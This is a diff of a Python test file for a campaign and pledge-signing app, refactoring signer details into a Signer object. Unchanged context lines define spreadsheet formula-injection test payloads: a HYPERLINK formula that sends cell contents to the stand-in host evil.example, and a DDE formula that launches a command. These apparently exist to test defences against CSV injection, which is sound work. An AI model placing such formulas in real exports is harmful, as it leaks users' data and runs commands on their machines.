@@ -33,6 +33,7 @@ from tests.campaigns.test_api import bearer
 from tests.helpers import app_without_temporal, asgi_client
 from tests.imports.test_stakeholders import HEADER, by_row, csv_bytes, problems, row, run_import
 from tests.reviews import records as rr
+from workflows.pledge_messages import Signer
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 DDE = "=cmd|' /C calc'!A0"
@@ -108,12 +109,10 @@ def _signed_campaign_named(db, names: list[str]):
                 session,
                 invitation_id=rr.known(invitation.id),
                 receipt_id=f"PF-CSV-{number}",
-                signer_name=f"Signer {number}",
-                signer_title="Director",
-                publish_name=True,
+                signer=Signer(
+                    name=f"Signer {number}", title="Director", publish_name=True, ip=None, user_agent=None
+                ),
                 signed_at=now,
-                ip=None,
-                user_agent=None,
             )
         campaigns.mark_in_force(session, campaign_id=rr.known(seeded.campaign.id), at=now, groups=[])
     return seeded
